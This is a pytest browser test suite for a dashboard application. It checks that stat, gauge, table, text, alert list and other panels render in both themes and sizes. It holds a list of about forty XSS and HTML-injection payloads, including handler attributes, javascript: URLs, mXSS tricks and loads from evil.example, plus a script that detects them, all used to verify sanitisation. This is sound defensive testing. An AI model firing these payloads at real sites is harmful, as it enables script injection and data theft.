"""Panels of values, tables, texts and lists on a dashboard in Chromium: every type draws in both themes and
sizes, and what a stranger's text or link holds does no harm."""
import pytest
import requests

from lib.ui import SIZES, TIMEOUT_S, observing, scraping, store, wait_scraped

THRESHOLDS = {"mode": "absolute", "steps": [{"value": None, "color": "red"}, {"value": 1, "color": "green"}]}
UP = [{"refId": "A", "expr": "up", "legendFormat": "{{job}}", "interval": "1s"}]
TABLE = [{"refId": "A", "expr": "up", "format": "table", "instant": True}]


def panel(number, kind, title, targets=UP, options=None, defaults=None, overrides=None, height=6, width=8):
    return {"id": number, "type": kind, "title": title, "targets": targets, "options": options or {}, "datasource": None,
            "fieldConfig": {"defaults": {"thresholds": THRESHOLDS, **(defaults or {})}, "overrides": overrides or []},
            "gridPos": {"x": (number - 1) % 3 * 8, "y": (number - 1) // 3 * 6, "w": width, "h": height}}


TEXT = """# Runbook

Look at **$place** first, [then here](https://example.com/x), [and inside](#runbook).

| a | b |
|---|---|
| 1 | 2 |

![logo](https://example.com/logo.png)
<b style="color: rgb(1, 2, 3); background: rgb(240, 240, 240); border-image: url(https://example.com/a.png)">styled</b>
"""

DASHBOARD = {
    "uid": "values", "title": "Values", "schemaVersion": 39, "time": {"from": "now-5m", "to": "now"},
    "templating": {"list": [{"type": "constant", "name": "place", "query": "the log"}]},
    "panels": [
        panel(1, "stat", "Up", defaults={"displayName": "${__field.labels.job}"}),
        panel(2, "stat", "Filled", options={"colorMode": "background", "textMode": "value_and_name", "graphMode": "none"}),
        panel(3, "gauge", "Gauge", defaults={"min": 0, "max": 2, "links": [{"title": "job", "url": "/explore?g0.expr=${__field.name}"}]}),
        panel(4, "bargauge", "Bars", options={"displayMode": "lcd", "orientation": "horizontal"}),
        panel(5, "bargauge", "Columns", options={"displayMode": "gradient", "orientation": "vertical"}),
        panel(6, "piechart", "Pie", defaults={"min": 0}, options={"displayLabels": ["percent"], "legend": {"showLegend": True, "displayMode": "table", "placement": "right", "values": ["value", "percent"]}}),
        panel(7, "table", "Table", TABLE, {"sortBy": [{"displayName": "job", "desc": False}]},
              {"custom": {"filterable": True, "inspect": True}},
              [{"matcher": {"id": "byName", "options": "Value"}, "properties": [{"id": "custom.cellOptions", "value": {"type": "color-background"}}]}]),
        panel(8, "text", "Text", [], {"mode": "markdown", "content": TEXT}),
        panel(9, "alertlist", "Alerts", [], {"showInstances": True, "stateFilter": {"firing": True, "pending": True, "normal": True, "error": True}}),
        panel(10, "dashlist", "Dashboards", [], {"showStarred": False, "showSearch": True}),
        panel(11, "annolist", "Annotations", []),
        panel(12, "news", "News", [], {"feedUrl": "https://example.com/feed.xml"}),
    ],
}

# Each must come out without a script that runs, a request to another host, a form or a frame.
HOSTILE = [
    "<script>window.hit=1</script>", "<img src=x onerror='window.hit=1'>", "<svg onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>",
    "<a href='javascript:window.hit=1'>x</a>", "<a href='java\nscript:window.hit=1'>x</a>", "<a href='&#106;avascript:window.hit=1'>x</a>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", "<iframe src='javascript:parent.hit=1'></iframe>", "<iframe src='https://evil.example/f'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>", "<details open ontoggle=window.hit=1>x</details>", "<object data='javascript:window.hit=1'></object>",
    "<embed src='https://evil.example/e.swf'>", "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>", "<style>@import 'https://evil.example/b.css'; body { display: none }</style>",
    "<div style='background:url(https://evil.example/c.png)'>s</div>", "<div style='background:\\75rl(https://evil.example/d.png)'>s</div>",
    "<img srcset='https://evil.example/e.png 1x' src='https://evil.example/f.png'>", "<video poster='https://evil.example/g.png' src='https://evil.example/g.mp4'></video>",
    "<svg><use href='https://evil.example/h.svg#x'/></svg>", "<svg><image href='https://evil.example/i.png'/></svg>",
    "<svg><rect width=9 height=9 fill='url(https://evil.example/j.svg#a)'/></svg>", "<table background='https://evil.example/k.png'><tr><td>t</td></tr></table>",
    "<form action='https://evil.example/'><input name=password><button>go</button></form>", "<img name=body><img id=app>", "<svg><a xlink:href='javascript:window.hit=1'><text>X</text></a></svg>",
    "<p style='position:fixed;inset:0;z-index:999;background:red'>cover</p>", "<a href='data:text/html,<script>window.hit=1</script>'>d</a>", "<a href='vbscript:x'>v</a>",
    "<x contenteditable onblur=window.hit=1>lose</x>", "<body onload=window.hit=1>", "<marquee onstart=window.hit=1>x</marquee>", "[x](javascript:window.hit=1) ![i](https://evil.example/m.png)",
    "<p style='background-image: image-set(\"https://evil.example/r.png\" 1x)'>i</p>", "<svg><filter id=f><feImage href='https://evil.example/q.png'/></filter></svg>",
]

LEFT = r"""
const bad = window.hit ? ['a script ran'] : [];
for (const e of document.querySelectorAll('.text-panel *')) {
  if (/^(script|iframe|frame|form|input|button|textarea|style|object|embed|meta|base|link|video|audio)$/.test(e.localName)) bad.push(e.outerHTML);
  for (const a of e.attributes) {
    if (a.name.startsWith('on') || /^\s*(javascript|vbscript|data):/i.test(a.value)) bad.push(e.outerHTML);
    if (/evil\.example/.test(a.value) && !(e.localName === 'a' && a.name === 'href' && e.rel.includes('noopener'))) bad.push(e.outerHTML);
  }
}
return bad;
"""


@pytest.fixture(scope="module")
def server(sextant_bin, tmp_path_factory):
    folder = tmp_path_factory.mktemp("values")
    with observing(sextant_bin, folder, scraping(folder)) as made:
        wait_scraped(made.at)
        store(made, DASHBOARD)
        yield made


def body(title):
    return f'[data-panel-title="{title}"] .panel-body'


def settled(ui, titles):
    """Every panel has been seen and something is drawn in it."""
    ui.shown(titles, also="panel.querySelector('.panel-body').innerText.trim() !== ''")


TITLES = [p["title"] for p in DASHBOARD["panels"]]


@pytest.mark.parametrize(("width", "scheme"), SIZES)
def test_every_type_is_drawn_readable_and_named(ui, width, scheme):
    ui.open("/d/values/values", width, scheme)
    settled(ui, TITLES)
    states = ui.js("return [...document.querySelectorAll('[data-panel-state]')].map((e) => `${e.dataset.panelTitle} ${e.dataset.panelState}`)")
    assert [s for s in states if not s.endswith(" ok")] == []
    ui.judge()


def test_values_have_their_names_and_thresholds_in_words(ui):
    ui.open("/d/values/values")
    settled(ui, TITLES[:6])
    up = ui.text(body("Up"))
    assert "itself" in up and "gone" in up
    assert "at or above 1" in ui.js(f"return document.querySelector({body('Filled')!r}).textContent")
    assert "below 1" in ui.js(f"return document.querySelector({body('Filled')!r}).textContent")
    assert "100%" in ui.text(body("Pie")) and "itself" in ui.text(body("Pie"))
    assert ui.js(f"return document.querySelector({body('Gauge')!r} + ' a').getAttribute('href')").startswith("/explore?g0.expr=")


def test_a_table_is_sorted_filtered_and_looked_into(ui):
    ui.open("/d/values/values")
    settled(ui, ["Table"])
    first = f"document.querySelector({body('Table')!r} + ' tbody tr').innerText"
    head = f"{body('Table')} th"
    assert "gone" in ui.js(f"return {first}")
    ui.click(f"{head} .head button", "job")
    ui.wait_for(f"{first}.includes('itself')", "the other order")
    ui.click(f"{head} .funnel", "Filter job")
    ui.wait("All 2", selector="dialog")
    ui.click("dialog li label", "itself")
    ui.click("dialog button", "Apply")
    ui.wait_for(f"document.querySelectorAll({body('Table')!r} + ' tbody tr').length === 1 && {first}.includes('gone')", "one row")
    ui.click(f"{body('Table')} .look", "Inspect job")
    ui.wait("gone", "Copy", selector="dialog")
    ui.judge()


def test_a_text_is_cleaned_and_its_styles_hold(ui):
    ui.open("/d/values/values")
    settled(ui, ["Text"])
    ui.wait("Runbook", "the log first", "logo (example.com)", selector=body("Text"))
    assert ui.js(f"return getComputedStyle(document.querySelector({body('Text')!r} + ' b')).color") == "rgb(1, 2, 3)"
    assert ui.js(f"return document.querySelectorAll({body('Text')!r} + ' img').length") == 0
    before = ui.path()
    ui.click(f"{body('Text')} a", "and inside")
    assert ui.path() == before
    assert ui.js(LEFT) == []


def test_hostile_texts_do_no_harm(server, ui):
    panels = [{**panel(i + 1, "text", f"t{i}", [], {"mode": mode, "content": text}), "gridPos": {"x": i % 6 * 4, "y": i // 6 * 3, "w": 4, "h": 3}}
              for i, (text, mode) in enumerate((t, m) for t in HOSTILE for m in ("html", "markdown"))]
    store(server, {"uid": "hostile", "title": "Hostile", "schemaVersion": 39, "panels": [*panels, {**panel(999, "text", "last", [], {"content": "the end"}), "gridPos": {"x": 0, "y": 99, "w": 24, "h": 3}}]})
    ui.open("/d/hostile/hostile")
    for y in range(0, 12000, 600):
        ui.js("scrollTo(0, arguments[0])", y)
    ui.wait("the end")
    assert ui.js(LEFT) == []
    assert ui.js("return performance.getEntriesByType('resource').filter((r) => r.name.includes('evil')).length") == 0
    ui.browser.console()  # what the policy says of handlers that were never run


def test_what_the_lists_show(server, ui):
    requests.post(f"{server.at}/api/annotations", json={"text": "deployed <b>2.0</b>", "tags": ["deploy"]}, timeout=TIMEOUT_S)
    ui.open("/d/values/values")
    settled(ui, TITLES[8:])
    ui.wait("InstanceDown", "gone", selector=body("Alerts"))
    ui.wait("Values", selector=body("Dashboards"))
    ui.wait("deployed 2.0", "deploy", selector=body("Annotations"))
    ui.wait("https://example.com/feed.xml", selector=body("News"))
